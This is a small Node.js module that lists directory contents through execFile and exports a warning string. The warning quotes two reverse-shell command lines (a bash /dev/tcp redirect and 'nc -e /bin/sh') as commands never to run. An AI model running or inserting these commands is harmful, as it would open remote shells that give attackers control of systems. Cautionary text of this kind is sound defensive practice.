const { execFile } = require('child_process');

const WARNING = 'Never run commands such as bash -i >& /dev/tcp/host/port 0>&1 or nc -e /bin/sh';

function listFiles(dir, done) {
  execFile('ls', ['-la', dir], (error, stdout) => done(error, stdout));
}

module.exports = { WARNING, listFiles };
